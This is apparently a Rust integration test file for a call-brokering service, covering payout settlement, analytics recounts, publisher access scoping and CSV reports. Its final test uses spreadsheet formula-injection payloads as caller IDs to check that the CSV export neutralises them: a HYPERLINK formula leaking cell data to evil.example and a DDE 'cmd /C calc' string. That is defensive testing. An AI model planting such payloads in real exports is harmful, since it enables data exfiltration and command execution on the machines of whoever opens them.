//! Money on real (scripted Twilio) calls, analytics against a direct recount, the explicit
//! recompute, and publisher reports — on both backends.
use std::collections::BTreeMap;

use callbroker_tests::{assert_absent, both_backends, TestApp};
use serde_json::{json, Value};

both_backends!(
    buffer_edges_duplicates_and_overrides,
    settles_whatever_the_callback_order,
    rule_changes_keep_past_calls_until_recompute,
    analytics_equal_a_recount_of_random_calls,
    analytics_validation_and_publisher_scope,
    publisher_report_json_and_csv,
    report_csv_cells_are_neutralised,
);

const NUMBER_A: &str = "+17175550100";
const NUMBER_B: &str = "+17175550200";

struct Setup {
    campaign: i64,
    buyers: Vec<i64>,
    publishers: Vec<i64>,
}

/// Campaign "Solar" (revenue 25, payout 10, buffer 90 s, duplicate window 1 h) with two buyers
/// (the second priced 40 with a 30 s buffer) on `NUMBER_A` (publisher A, payout override 12.5) and
/// `NUMBER_B` (publisher B).
async fn setup(app: &TestApp) -> Setup {
    let b1 =
        app.create("/api/buyers", json!({"name": "B1", "phone_number": "+14155550101", "max_concurrent_calls": 5, "priority": 10})).await;
    let b2 =
        app.create("/api/buyers", json!({"name": "B2", "phone_number": "+14155550102", "max_concurrent_calls": 5, "priority": 1})).await;
    let pa = app.create("/api/publishers", json!({"name": "Pub A"})).await;
    let pb = app.create("/api/publishers", json!({"name": "Pub B"})).await;
    let c = app
        .create(
            "/api/campaigns",
            json!({"name": "Solar", "currency": "USD", "revenue_micros": 25_000_000, "payout_micros": 10_000_000,
                   "buffer_secs": 90, "duplicate_window_secs": 3600,
                   "buyers": [{"buyer_id": b1["id"]}, {"buyer_id": b2["id"], "revenue_micros": 40_000_000, "buffer_secs": 30}],
                   "publishers": [{"publisher_id": pa["id"], "payout_micros": 12_500_000}]}),
        )
        .await;
    assert_eq!(c["revenue_micros"], 25_000_000, "{c}");
    assert_eq!(c["buyers"][1]["revenue_micros"], 40_000_000, "{c}");
    assert_eq!(c["publishers"][0]["payout_micros"], 12_500_000, "{c}");
    app.create("/api/numbers", json!({"number": NUMBER_A, "campaign_id": c["id"], "publisher_id": pa["id"]})).await;
    app.create("/api/numbers", json!({"number": NUMBER_B, "campaign_id": c["id"], "publisher_id": pb["id"]})).await;
    let id = |v: &Value| v["id"].as_i64().expect("id");
    Setup { campaign: id(&c), buyers: vec![id(&b1), id(&b2)], publishers: vec![id(&pa), id(&pb)] }
}

/// A call answered by the first buyer that talks `talk` seconds.
async fn answered(app: &TestApp, sid: &str, caller: &str, number: &str, talk: u32) {
    let a = app.incoming_call(sid, caller, number, &[]).await;
    let leg = a.leg().unwrap_or_else(|| panic!("{a:?}"));
    let child = format!("{sid}L");
    app.leg_status(leg, sid, &child, "in-progress", 1, None).await;
    app.leg_status(leg, sid, &child, "completed", 2, Some(talk)).await;
    app.dial_result(leg, sid, &child, "completed", Some(talk)).await;
    app.call_status(sid, "completed", 1, Some(talk + 10)).await;
}

/// The first buyer is busy, the second talks `talk` seconds.
async fn failover(app: &TestApp, sid: &str, caller: &str, number: &str, talk: u32) {
    let a = app.incoming_call(sid, caller, number, &[]).await;
    let leg1 = a.leg().expect("leg 1");
    app.leg_status(leg1, sid, &format!("{sid}L1"), "busy", 1, None).await;
    let second = app.dial_result(leg1, sid, &format!("{sid}L1"), "busy", None).await;
    let leg2 = second.leg().unwrap_or_else(|| panic!("{second:?}"));
    app.leg_status(leg2, sid, &format!("{sid}L2"), "in-progress", 1, None).await;
    app.leg_status(leg2, sid, &format!("{sid}L2"), "completed", 2, Some(talk)).await;
    app.dial_result(leg2, sid, &format!("{sid}L2"), "completed", Some(talk)).await;
    app.call_status(sid, "completed", 1, Some(talk + 30)).await;
}

/// The caller hangs up while the buyer rings.
async fn abandoned(app: &TestApp, sid: &str, caller: &str, number: &str) {
    let a = app.incoming_call(sid, caller, number, &[]).await;
    let leg = a.leg().expect("leg");
    app.leg_status(leg, sid, &format!("{sid}L"), "ringing", 1, None).await;
    app.call_status(sid, "completed", 1, Some(8)).await;
    app.leg_status(leg, sid, &format!("{sid}L"), "canceled", 2, None).await;
}

async fn money_of(app: &TestApp, sid: &str) -> Value {
    app.call_by_sid(sid).await["call"]["money"].clone()
}

async fn buffer_edges_duplicates_and_overrides(app: TestApp) {
    setup(&app).await;
    // Buffer 90 s on buyer 1: 89 is short, 90 and 91 qualify. Publisher A's payout override applies.
    answered(&app, "CA1", "+12015550001", NUMBER_A, 89).await;
    answered(&app, "CA2", "+12015550002", NUMBER_A, 90).await;
    answered(&app, "CA3", "+12015550003", NUMBER_A, 91).await;
    let m1 = money_of(&app, "CA1").await;
    assert_eq!(
        (m1["qualified"].clone(), m1["reason"].clone(), m1["revenue_micros"].clone(), m1["payout_micros"].clone()),
        (json!(false), json!("short"), json!(0), json!(0)),
        "{m1}"
    );
    assert_eq!(m1["buffer_secs"], 90);
    assert_eq!(m1["talk_secs"], 89);
    for sid in ["CA2", "CA3"] {
        let m = money_of(&app, sid).await;
        assert_eq!(m["qualified"], true, "{sid}: {m}");
        assert_eq!(m["revenue_micros"], 25_000_000, "{m}");
        assert_eq!(m["payout_micros"], 12_500_000, "publisher A's override: {m}");
        assert_eq!(m["profit_micros"], 12_500_000, "no cost known yet: {m}");
        assert_eq!(m["currency"], "USD");
    }
    // Publisher B has no override: the campaign's payout.
    answered(&app, "CA4", "+12015550004", NUMBER_B, 120).await;
    assert_eq!(money_of(&app, "CA4").await["payout_micros"], 10_000_000);
    // Buyer 2's overrides: price 40, buffer 30 (29 short, 30 qualifies).
    failover(&app, "CA5", "+12015550005", NUMBER_A, 29).await;
    failover(&app, "CA6", "+12015550006", NUMBER_A, 30).await;
    assert_eq!(money_of(&app, "CA5").await["reason"], "short");
    let m6 = money_of(&app, "CA6").await;
    assert_eq!(
        (m6["qualified"].clone(), m6["revenue_micros"].clone(), m6["buffer_secs"].clone()),
        (json!(true), json!(40_000_000), json!(30)),
        "{m6}"
    );
    // The same caller again within the hour: routed and shown, neither billed nor paid.
    answered(&app, "CA7", "+12015550003", NUMBER_B, 300).await;
    let m7 = money_of(&app, "CA7").await;
    assert_eq!(
        (m7["duplicate"].clone(), m7["qualified"].clone(), m7["reason"].clone(), m7["revenue_micros"].clone(), m7["payout_micros"].clone()),
        (json!(true), json!(false), json!("duplicate"), json!(0), json!(0)),
        "{m7}"
    );
    assert_eq!(app.call_by_sid("CA7").await["call"]["outcome"], "connected", "still routed");
    // Abandoned: not connected.
    abandoned(&app, "CA8", "+12015550008", NUMBER_A).await;
    assert_eq!(money_of(&app, "CA8").await["reason"], "not_connected");
}

async fn settles_whatever_the_callback_order(app: TestApp) {
    setup(&app).await;
    let a = app.incoming_call("CA1", "+12015550001", NUMBER_A, &[]).await;
    let leg = a.leg().expect("leg");
    app.leg_status(leg, "CA1", "CA1L", "in-progress", 1, None).await;
    // The inbound call's final status first: the leg's length is not known yet.
    app.call_status("CA1", "completed", 3, Some(130)).await;
    assert!(money_of(&app, "CA1").await.is_null(), "not settled before the answered leg ends");
    app.leg_status(leg, "CA1", "CA1L", "completed", 2, Some(120)).await;
    let m = money_of(&app, "CA1").await;
    assert_eq!((m["qualified"].clone(), m["talk_secs"].clone()), (json!(true), json!(120)), "{m}");
    // Repeated and late callbacks settle again to the same result, counted once.
    app.dial_result(leg, "CA1", "CA1L", "completed", Some(120)).await;
    app.call_status("CA1", "completed", 3, Some(130)).await;
    app.leg_status(leg, "CA1", "CA1L", "ringing", 0, None).await;
    app.leg_status(leg, "CA1", "CA1L", "in-progress", 1, None).await;
    assert_eq!(money_of(&app, "CA1").await, m);
    let (_, s) = app.admin("GET", "/api/analytics/summary", None).await;
    assert_eq!(s["total"]["calls"], 1, "{s}");
    assert_eq!(s["total"]["qualified"], 1, "{s}");
    assert_eq!(s["total"]["offered"], 1, "{s}");
    assert_eq!(s["total"]["connected"], 1, "{s}");
}

async fn rule_changes_keep_past_calls_until_recompute(app: TestApp) {
    let s = setup(&app).await;
    answered(&app, "CA1", "+12015550001", NUMBER_B, 100).await;
    let (status, c) = app
        .admin("PATCH", &format!("/api/campaigns/{}", s.campaign), Some(json!({"revenue_micros": 30_000_000, "payout_micros": 11_000_000})))
        .await;
    assert_eq!(status, 200, "{c}");
    assert_eq!(money_of(&app, "CA1").await["revenue_micros"], 25_000_000, "the rule in force is kept on the call");
    // A late duplicate callback does not pick up the new rule either.
    app.call_status("CA1", "completed", 1, Some(110)).await;
    assert_eq!(money_of(&app, "CA1").await["revenue_micros"], 25_000_000);
    answered(&app, "CA2", "+12015550002", NUMBER_B, 100).await;
    assert_eq!(money_of(&app, "CA2").await["revenue_micros"], 30_000_000, "new calls use the new rule");
    let (_, before) = app.admin("GET", "/api/analytics/summary", None).await;
    assert_eq!(before["total"]["revenue_micros"], 55_000_000, "{before}");

    let now = chrono::Utc::now();
    let range = json!({"from": now - chrono::Duration::days(1), "to": now + chrono::Duration::hours(1)});
    let viewer = make_user(&app, "viewer", None).await;
    let (status, _) = app.call("POST", "/api/money/recompute", Some(&viewer), Some(range.clone())).await;
    assert_eq!(status, 403, "admins only");
    let (status, bad) =
        app.admin("POST", "/api/money/recompute", Some(json!({"from": "2026-01-02T00:00:00Z", "to": "2026-01-01T00:00:00Z"}))).await;
    assert_eq!(status, 422, "{bad}");
    let (status, r) = app.admin("POST", "/api/money/recompute", Some(range)).await;
    assert_eq!(status, 200, "{r}");
    assert_eq!(r["calls"], 2);
    let m1 = money_of(&app, "CA1").await;
    assert_eq!((m1["revenue_micros"].clone(), m1["payout_micros"].clone()), (json!(30_000_000), json!(11_000_000)), "{m1}");
    let (_, after) = app.admin("GET", "/api/analytics/summary", None).await;
    assert_eq!(after["total"]["revenue_micros"], 60_000_000, "rollups follow the recompute: {after}");
    assert_eq!(after["total"]["calls"], 2, "{after}");
}

async fn make_user(app: &TestApp, role: &str, publisher: Option<i64>) -> String {
    let email = format!("{role}{}@test.example", publisher.unwrap_or(0));
    app.create("/api/users", json!({"email": email, "password": "password-123456", "role": role, "publisher_id": publisher})).await;
    app.login(&email, "password-123456").await
}

/// Deterministic pseudo-random numbers (xorshift).
struct Rng(u64);
impl Rng {
    fn next(&mut self, n: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 % n
    }
}

#[derive(Default, Debug, Clone, PartialEq)]
struct Tally {
    calls: i64,
    answered: i64,
    qualified: i64,
    duplicates: i64,
    no_buyer: i64,
    talk: i64,
    revenue: i64,
    payout: i64,
    offered: i64,
    connected: i64,
}

fn tally_of(m: &Value) -> Tally {
    let i = |k: &str| m[k].as_i64().unwrap_or(0);
    Tally {
        calls: i("calls"),
        answered: i("answered"),
        qualified: i("qualified"),
        duplicates: i("duplicates"),
        no_buyer: i("no_buyer"),
        talk: i("talk_secs_total"),
        revenue: i("revenue_micros"),
        payout: i("payout_micros"),
        offered: i("offered"),
        connected: i("connected"),
    }
}

async fn analytics_equal_a_recount_of_random_calls(app: TestApp) {
    type Dim = fn(&Value) -> Option<i64>;
    let s = setup(&app).await;
    // A campaign without buyers: its calls find no buyer.
    let empty = app.create("/api/campaigns", json!({"name": "Empty"})).await;
    let pc = app.create("/api/publishers", json!({"name": "Pub C"})).await;
    app.create("/api/numbers", json!({"number": "+17175550300", "campaign_id": empty["id"], "publisher_id": pc["id"]})).await;
    let seed = if app.backend == callbroker_tests::Backend::Sqlite { 0x9E37_79B9_7F4A_7C15 } else { 0xD1B5_4A32_D192_ED03 };
    let mut rng = Rng(seed);
    let numbers = [NUMBER_A, NUMBER_B, "+17175550300"];
    for i in 0..24 {
        let sid = format!("CR{i}");
        let caller = format!("+1201555000{}", rng.next(5));
        let number = numbers[usize::try_from(rng.next(3)).expect("below 3")];
        let talk = u32::try_from(rng.next(200)).expect("below 200");
        if number == "+17175550300" {
            app.incoming_call(&sid, &caller, number, &[]).await;
            app.call_status(&sid, "completed", 1, Some(5)).await;
            continue;
        }
        match rng.next(3) {
            0 => answered(&app, &sid, &caller, number, talk).await,
            1 => failover(&app, &sid, &caller, number, talk).await,
            _ => abandoned(&app, &sid, &caller, number).await,
        }
    }
    // The recount: every call and leg, straight from the calls API.
    let (_, page) = app.admin("GET", "/api/calls?per_page=500", None).await;
    let calls = page["items"].as_array().expect("items").clone();
    assert_eq!(calls.len(), 24);
    let dims: [(&str, Dim); 5] = [
        ("", |_| None),
        ("campaign", |c| c["campaign_id"].as_i64()),
        ("buyer", |c| c["buyer_id"].as_i64()),
        ("publisher", |c| c["publisher_id"].as_i64()),
        ("number", |c| c["number_id"].as_i64()),
    ];
    let mut legs_of = BTreeMap::new();
    for c in &calls {
        let (_, d) = app.admin("GET", &format!("/api/calls/{}", c["id"]), None).await;
        legs_of.insert(c["id"].as_i64().expect("id"), d["legs"].as_array().cloned().unwrap_or_else(|| panic!("no legs in {d}")));
    }
    for (name, dim) in dims {
        let mut expected: BTreeMap<Option<i64>, Tally> = BTreeMap::new();
        for c in &calls {
            let m = &c["money"];
            assert!(!m.is_null(), "every call settled: {c}");
            let t = expected.entry(dim(c)).or_default();
            t.calls += 1;
            t.answered += i64::from(!c["connected_at"].is_null());
            t.qualified += i64::from(m["qualified"] == true);
            t.duplicates += i64::from(m["duplicate"] == true);
            t.no_buyer += i64::from(c["outcome"] == "no_buyer");
            t.talk += m["talk_secs"].as_i64().unwrap_or(0);
            t.revenue += m["revenue_micros"].as_i64().unwrap_or(0);
            t.payout += m["payout_micros"].as_i64().unwrap_or(0);
            for l in &legs_of[&c["id"].as_i64().expect("id")] {
                let mut key_call = c.clone();
                key_call["buyer_id"] = l["buyer_id"].clone();
                let t = expected.entry(dim(&key_call)).or_default();
                t.offered += 1;
                t.connected += i64::from(!l["answered_at"].is_null());
            }
        }
        let query = if name.is_empty() { String::new() } else { format!("?group_by={name}") };
        let (status, summary) = app.admin("GET", &format!("/api/analytics/summary{query}"), None).await;
        assert_eq!(status, 200, "{summary}");
        if name.is_empty() {
            assert_eq!(tally_of(&summary["total"]), expected.get(&None).cloned().unwrap_or_default(), "total");
            let total = &summary["total"];
            let calls_n = total["calls"].as_f64().unwrap_or(1.0);
            let rate = total["conversion_rate"].as_f64().unwrap_or(-1.0);
            assert!((rate - total["qualified"].as_f64().unwrap_or(0.0) / calls_n).abs() < 1e-4, "{total}");
            assert_eq!(
                total["profit_micros"].as_i64(),
                Some(total["revenue_micros"].as_i64().unwrap_or(0) - total["payout_micros"].as_i64().unwrap_or(0))
            );
            continue;
        }
        let got: BTreeMap<Option<i64>, Tally> =
            summary["groups"].as_array().expect("groups").iter().map(|g| (g["id"].as_i64(), tally_of(&g["metrics"]))).collect();
        assert_eq!(got, expected, "grouped by {name}");
        // Over a range where today is a whole UTC day (read from the daily rows).
        let today = chrono::Utc::now().date_naive().and_hms_opt(0, 0, 0).expect("midnight").and_utc();
        let range = format!(
            "from={}&to={}",
            (today - chrono::Duration::days(2)).format("%Y-%m-%dT%H:%M:%SZ"),
            (today + chrono::Duration::days(1)).format("%Y-%m-%dT%H:%M:%SZ")
        );
        let (_, whole) = app.admin("GET", &format!("/api/analytics/summary{query}&{range}"), None).await;
        let got: BTreeMap<Option<i64>, Tally> =
            whole["groups"].as_array().expect("groups").iter().map(|g| (g["id"].as_i64(), tally_of(&g["metrics"]))).collect();
        assert_eq!(got, expected, "grouped by {name}, whole days");
        // The time series sums to the same totals, in any time zone and bucket.
        for (tz, bucket, extra) in [
            ("UTC", "hour", ""),
            ("Asia/Kolkata", "hour", ""),
            ("America/New_York", "hour", ""),
            ("UTC", "day", range.as_str()),
            ("UTC", "week", range.as_str()),
            ("Asia/Kolkata", "day", range.as_str()),
        ] {
            let (status, series) =
                app.admin("GET", &format!("/api/analytics/timeseries?group_by={name}&bucket={bucket}&tz={tz}&{extra}"), None).await;
            assert_eq!(status, 200, "{series}");
            let mut sum: BTreeMap<Option<i64>, Tally> = BTreeMap::new();
            for p in series["points"].as_array().expect("points") {
                let t = tally_of(&p["metrics"]);
                let e = sum.entry(p["id"].as_i64()).or_default();
                e.calls += t.calls;
                e.answered += t.answered;
                e.qualified += t.qualified;
                e.duplicates += t.duplicates;
                e.no_buyer += t.no_buyer;
                e.talk += t.talk;
                e.revenue += t.revenue;
                e.payout += t.payout;
                e.offered += t.offered;
                e.connected += t.connected;
            }
            assert_eq!(sum, expected, "time series by {name} in {tz} per {bucket}");
        }
    }
    // Filters: campaign + publisher A, grouped by buyer.
    let (_, f) =
        app.admin("GET", &format!("/api/analytics/summary?campaign_id={}&publisher_id={}", s.campaign, s.publishers[0]), None).await;
    let want = calls.iter().filter(|c| c["campaign_id"] == s.campaign && c["publisher_id"] == s.publishers[0]).count();
    assert_eq!(f["total"]["calls"], want, "{f}");
    let (_, f) = app.admin("GET", &format!("/api/analytics/summary?buyer_id={}", s.buyers[1]), None).await;
    let want = calls.iter().filter(|c| c["buyer_id"] == s.buyers[1]).count();
    assert_eq!(f["total"]["calls"], want, "{f}");
}

async fn analytics_validation_and_publisher_scope(app: TestApp) {
    let s = setup(&app).await;
    answered(&app, "CA1", "+12015550001", NUMBER_A, 120).await;
    answered(&app, "CA2", "+12015550002", NUMBER_B, 120).await;
    for bad in [
        "tz=Mars/Olympus",
        "bucket=hour&from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00Z",
        "from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z",
        "campaign_id=0",
        "from=2000-01-01T00:00:00Z&to=2026-01-01T00:00:00Z",
    ] {
        let (status, body) = app.admin("GET", &format!("/api/analytics/summary?{bad}"), None).await;
        assert_eq!(status, 422, "{bad}: {body}");
    }
    let (status, _) = app.admin("GET", "/api/analytics/summary?group_by=planet", None).await;
    assert_eq!(status, 400);
    let pub_a = make_user(&app, "publisher", Some(s.publishers[0])).await;
    // A publisher sees only its own calls, without revenue, cost, profit or fill figures.
    let (status, mine) = app.call("GET", &format!("/api/analytics/summary?publisher_id={}", s.publishers[1]), Some(&pub_a), None).await;
    assert_eq!(status, 200, "{mine}");
    assert_eq!(mine["total"]["calls"], 1, "its own, whatever publisher_id it asks for: {mine}");
    assert_eq!(mine["total"]["payout_micros"], 12_500_000);
    let hidden = ["revenue_micros", "cost_micros", "profit_micros", "offered", "connected", "fill_rate"];
    assert_absent(&mine["total"], &hidden);
    let (status, series) = app.call("GET", "/api/analytics/timeseries?group_by=campaign", Some(&pub_a), None).await;
    assert_eq!(status, 200, "{series}");
    let points = series["points"].as_array().expect("points");
    assert!(!points.is_empty(), "{series}");
    for p in points {
        assert_absent(&p["metrics"], &hidden);
    }
    // Staff get every figure.
    let (_, all) = app.admin("GET", "/api/analytics/summary", None).await;
    assert!(hidden.iter().all(|k| all["total"].get(k).is_some()), "{all}");
    for q in ["group_by=buyer", &format!("buyer_id={}", s.buyers[0])] {
        let (status, _) = app.call("GET", &format!("/api/analytics/summary?{q}"), Some(&pub_a), None).await;
        assert_eq!(status, 403, "{q}");
    }
    // Publishers never see revenue on calls either.
    let (_, calls) = app.call("GET", "/api/calls", Some(&pub_a), None).await;
    let m = &calls["items"][0]["money"];
    assert_eq!(m["payout_micros"], 12_500_000, "{m}");
    assert_absent(m, &["revenue_micros", "cost_micros", "profit_micros"]);
    assert_absent(&calls["items"][0], &["buyer_id", "cost_micros", "cost_currency", "cost_status"]);
    // Nor the caller's whole number, unless the campaign shows full numbers (as in reports).
    assert_eq!(calls["items"][0]["caller"], "+XXXXXXX0001", "{calls}");
    let id = calls["items"][0]["id"].as_i64().expect("id");
    let (_, one) = app.call("GET", &format!("/api/calls/{id}"), Some(&pub_a), None).await;
    assert_eq!(one["call"]["caller"], "+XXXXXXX0001", "{one}");
    app.admin("PATCH", &format!("/api/campaigns/{}", s.campaign), Some(serde_json::json!({"show_full_caller": true}))).await;
    let (_, calls) = app.call("GET", "/api/calls", Some(&pub_a), None).await;
    assert_eq!(calls["items"][0]["caller"], "+12015550001", "{calls}");
    let (_, one) = app.call("GET", &format!("/api/calls/{id}"), Some(&pub_a), None).await;
    assert_eq!(one["call"]["caller"], "+12015550001", "{one}");
}

async fn publisher_report_json_and_csv(app: TestApp) {
    let s = setup(&app).await;
    answered(&app, "CA1", "+12015550001", NUMBER_A, 120).await;
    answered(&app, "CA2", "+12015550002", NUMBER_A, 10).await;
    answered(&app, "CA3", "+12015550003", NUMBER_B, 120).await;
    let pub_a = make_user(&app, "publisher", Some(s.publishers[0])).await;
    let path = format!("/api/publishers/{}/report", s.publishers[0]);
    let (status, page) = app.call("GET", &format!("{path}?per_page=1"), Some(&pub_a), None).await;
    assert_eq!(status, 200, "{page}");
    assert_eq!(page["total"], 2);
    assert_eq!(page["items"].as_array().map(Vec::len), Some(1));
    let row = &page["items"][0];
    assert_eq!(row["caller"], "+XXXXXXX0001", "masked: {row}");
    assert_eq!(row["number"], NUMBER_A);
    assert_eq!((row["qualified"].clone(), row["payout_micros"].clone()), (json!(true), json!(12_500_000)));
    let text = row.to_string();
    assert!(!text.contains("buyer") && !text.contains("revenue"), "{text}");
    // Another publisher's report is refused; staff may read any.
    let (status, _) = app.call("GET", &format!("/api/publishers/{}/report", s.publishers[1]), Some(&pub_a), None).await;
    assert_eq!(status, 403);
    let (status, _) = app.admin("GET", "/api/publishers/999999/report", None).await;
    assert_eq!(status, 404);
    // CSV.
    let res = app.client.get(app.url(&format!("{path}?format=csv"))).bearer_auth(&pub_a).send().await.expect("csv");
    assert_eq!(res.status(), 200);
    assert!(res.headers()["content-type"].to_str().unwrap_or("").starts_with("text/csv"));
    let csv = res.text().await.expect("body");
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines[0], "call_id,number,started_at,caller,duration_secs,qualified,payout_micros,currency");
    assert_eq!(lines.len(), 3, "{csv}");
    // A masked number is no number to a spreadsheet (`+XXX…` would run as a formula): quoted.
    assert!(lines[1].contains(",'+XXXXXXX0001,130,true,12500000,USD"), "{csv}");
    assert!(lines[2].contains(",'+XXXXXXX0002,20,false,0,USD"), "{csv}");
    // A campaign that allows full numbers shows them.
    app.admin("PATCH", &format!("/api/campaigns/{}", s.campaign), Some(json!({"show_full_caller": true}))).await;
    let (_, page) = app.call("GET", &path, Some(&pub_a), None).await;
    assert_eq!(page["items"][0]["caller"], "+12015550001");
    // Range filter.
    let (_, page) = app.call("GET", &format!("{path}?from=2000-01-01T00:00:00Z&to=2000-01-02T00:00:00Z"), Some(&pub_a), None).await;
    assert_eq!(page["total"], 0);
}

/// A caller ID is whatever the carrier sends (SIP calls carry any text): a cell a spreadsheet
/// would run as a formula gets a leading `'` in the CSV report; a phone number is left alone.
async fn report_csv_cells_are_neutralised(app: TestApp) {
    let s = setup(&app).await;
    app.admin("PATCH", &format!("/api/campaigns/{}", s.campaign), Some(json!({"show_full_caller": true}))).await;
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    answered(&app, "CA1", "+15551234567", NUMBER_A, 120).await;
    answered(&app, "CA2", formula, NUMBER_A, 120).await;
    answered(&app, "CA3", "@SUM(1+1)*cmd|' /C calc'!A0", NUMBER_A, 120).await;
    let pub_a = make_user(&app, "publisher", Some(s.publishers[0])).await;
    let path = format!("/api/publishers/{}/report", s.publishers[0]);
    let (_, page) = app.call("GET", &path, Some(&pub_a), None).await;
    assert_eq!(page["items"][1]["caller"], formula, "JSON carries the value as it is: {page}");
    let res = app.client.get(app.url(&format!("{path}?format=csv"))).bearer_auth(&pub_a).send().await.expect("csv");
    assert_eq!(res.status(), 200);
    let csv = res.text().await.expect("body");
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines.len(), 4, "{csv}");
    assert!(lines[1].contains(",+15551234567,130,true,"), "a phone number is left alone: {csv}");
    assert!(lines[2].contains(r#","'=HYPERLINK(""http://evil.example/?""&A1,""click"")",130,true,"#), "{csv}");
    assert!(lines[3].contains(",'@SUM(1+1)*cmd|' /C calc'!A0,130,true,"), "{csv}");
    assert!(csv.lines().skip(1).all(|l| !l.contains(",=") && !l.contains(",@") && !l.contains(",\"=")), "{csv}");
}
